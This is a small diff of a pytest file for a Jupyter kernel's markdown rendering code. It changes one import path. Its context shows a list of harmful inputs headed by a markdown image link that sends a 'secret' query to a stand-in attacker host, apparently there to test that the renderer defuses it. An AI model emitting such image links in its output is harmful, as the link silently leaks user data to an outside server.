@@ -7,7 +7,7 @@ from html.parser import HTMLParser
 
 import pytest
 
-from navi_jupyter.kernel.display.markdown import closed, defused, to_html
+from navi_jupyter.kernel.display.render import closed, defused, to_html
 
 HARMFUL = [
     "![x](http://evil.example/?q=secret)",
